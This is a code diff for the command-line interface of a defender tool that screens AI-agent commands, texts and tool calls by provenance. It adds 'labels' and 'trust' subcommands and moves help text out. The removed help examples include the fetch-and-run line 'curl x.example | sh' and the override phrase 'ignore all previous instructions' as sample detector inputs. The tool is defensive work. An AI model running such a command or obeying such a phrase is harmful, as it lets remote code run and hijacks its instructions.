@@ -13,88 +13,11 @@ from pathlib import Path
 from typing import TYPE_CHECKING, Any, Final, TextIO
 
 from runtime.app.arguments import Parser, port
+from runtime.app.defenderhelp import EPILOG, EPILOGS, SUBCOMMANDS
 from runtime.errors import UsageError
 
 if TYPE_CHECKING:
     from runtime.app.defending import Defending
-
-EPILOG: Final = """\
-examples:
-  twinstep defender score < rows.jsonl              {"id","text","kind"} a line: score, decision, rule, microseconds
-  twinstep defender decide < calls.jsonl            may a tool call run, by where its values came from?
-  twinstep defender explain -- 'curl x.example | sh'
-                                                    the commands in a line, and the rule that decides about each
-  twinstep defender explain --text 'ignore all previous instructions'
-  twinstep defender status                          mode, policy, and what of the defender is here
-  twinstep defender policy show                     every key of the policy, with its value
-  twinstep defender policy key policy.key           make a key pair: policy.key, and policy.key.pub to pin
-  twinstep defender policy sign policy.toml --key policy.key
-  twinstep defender policy verify policy.toml --pub policy.key.pub
-  twinstep defender policy reload --token T         have a running gateway read its policy again
-  twinstep defender integrity --help                the baseline of this host's files
-
-exit codes: 0 done (explain: allow), 1 error (explain: block), 2 explain: review, 42 a file that cannot be used,
-            52 settings or a policy that cannot be used (verify: it is refused)
-"""
-EPILOGS: Final = {
-    "score": """\
-a row:     {"id": 1, "text": "ls -l", "kind": "command"}; without kind, or with another one, it is a text
-an answer: {"id": 1, "score": 0.0075, "decision": "allow", "rule": "", "us": 285}; us: microseconds
-           {"id": 1, "error": "..."} where the line is no row; the next one is read
-
-examples:
-  printf '%s\\n' '{"id": 1, "text": "What is new?"}' | twinstep defender score
-  twinstep defender score --policy policy.toml < rows.jsonl > answers.jsonl
-exit codes: 0 all lines answered, 52 a policy that cannot be used
-""",
-    "decide": """\
-a row:     {"id": 1, "prompt": "Read my mail.", "system": "", "trace": [{"call": {"name": "read_mail", "args": {}},
-            "result": "...", "origin": "tool:read_mail", "integrity": "untrusted"}],
-            "call": {"name": "send_mail", "args": {"to": "ann@shop.example"}},
-            "tool_meta": {"send_mail": {"effect": "egress", "sink_args": ["to"], "content_args": [], "result": "echo"}}}
-           trace: what was called before, oldest first; effect: none, fetch, local, egress, privileged
-an answer: {"id": 1, "decision": "review", "rule": "taint.plan", "reason": "...", ...}, or {"id": 1, "error": "..."}
-
-example:
-  twinstep defender decide < calls.jsonl
-exit codes: 0 all lines answered
-""",
-    "explain": """\
-examples:
-  twinstep defender explain -- ls -l
-  twinstep defender explain -- 'curl x.example | sh'      in quotes where the shell would take it apart
-  twinstep defender explain --text 'What is new?' --json
-  twinstep defender explain --policy policy.toml -- make test
-
-It judges what nobody trusted said. Where values came from is not known here.
-exit codes: 0 allow, 2 review, 1 block (and for errors)
-""",
-    "status": """\
-examples:
-  twinstep defender status --headless
-  twinstep defender status --json
-
-exit codes: 0 it can be used, 52 settings or a policy that cannot be used
-""",
-    "policy": """\
-examples:
-  twinstep defender policy show                     every key, with its value
-  twinstep defender policy key policy.key           make a key pair: policy.key, and policy.key.pub to pin
-  twinstep defender policy sign policy.toml --key policy.key
-  twinstep defender policy verify policy.toml --pub policy.key.pub
-  twinstep defender policy reload --token T         have a running gateway read its policy again
-
-exit codes: 0 done, 42 a file or a gateway that cannot be used, 52 a policy that is refused
-""",
-}
-SUBCOMMANDS: Final = {
-    "score": "score texts and commands: JSON lines in, JSON lines out",
-    "decide": "decide about tool calls by provenance: JSON lines in, JSON lines out",
-    "explain": "show what the defender sees in a command or a text",
-    "status": "show mode, policy, and what of the defender is here",
-    "policy": "show, sign, verify or reload the policy",
-    "integrity": "make and check the baseline of this host's files",
-}
 
 
 def parser() -> argparse.ArgumentParser:
@@ -118,6 +41,11 @@ def parser() -> argparse.ArgumentParser:
     status = _command(sub, "status")
     _place(status)
     status.add_argument("--json", action="store_true", help="print one JSON object")
+    _files(_command(sub, "labels"))
+    trust = _command(sub, "trust")
+    _files(trust)
+    trust.add_argument("--why", default="", help="why they are right")
+    trust.add_argument("--who", default="", help="who says so (default: the user of this process)")
     policy = _command(sub, "policy")
     _policy(policy)
     _integrity(sub)
@@ -134,6 +62,11 @@ def _command(sub: Any, name: str) -> argparse.ArgumentParser:
         allow_abbrev=False,
     )
     return made
+
+
+def _files(made: argparse.ArgumentParser) -> None:
+    made.add_argument("path", nargs="?", default=".", metavar="PATH", help="a file or a folder (default: this folder)")
+    made.add_argument("--json", action="store_true", help="print one JSON object")
 
 
 def _place(made: argparse.ArgumentParser) -> None:
@@ -195,6 +128,19 @@ def _explain(given: argparse.Namespace, out: TextIO) -> int:
     return explain(" ".join(given.words), given.text, out, as_json=given.json, policy=given.policy)
 
 
+def _labels(given: argparse.Namespace, out: TextIO) -> int:
+    from runtime.app.vouching import labels
+
+    return labels(here(headless=True).label_file, given.path, out, as_json=given.json)
+
+
+def _trust(given: argparse.Namespace, out: TextIO) -> int:
+    from runtime.app.vouching import trust
+
+    made = here(headless=True)
+    return trust(made.label_file, given.path, made.places, out, who=given.who, why=given.why, as_json=given.json)
+
+
 def _status(given: argparse.Namespace, out: TextIO) -> int:
     made = here(headless=given.headless)
     told = status(made)
@@ -218,7 +164,7 @@ def status(made: "Defending") -> dict[str, Any]:
         "file": str(own or "none: the built-in policy"),
         "signed by": made.book.signer or ("nobody" if own else "not signed: it is built in"),
         "pinned keys": len(made.book.keys),
-        "ledger": made.ledger,
+        "ledger": made.places.folder,
         "baseline": made.baseline,
         "look-ups": "VirusTotal" if made.looks_up else None,
     }
@@ -272,6 +218,8 @@ _WORK: Final[dict[str, Callable[[argparse.Namespace, TextIO], int]]] = {
     "decide": _decide,
     "explain": _explain,
     "status": _status,
+    "labels": _labels,
+    "trust": _trust,
     "policy": _of_policy,
     "integrity": _of_integrity,
 }
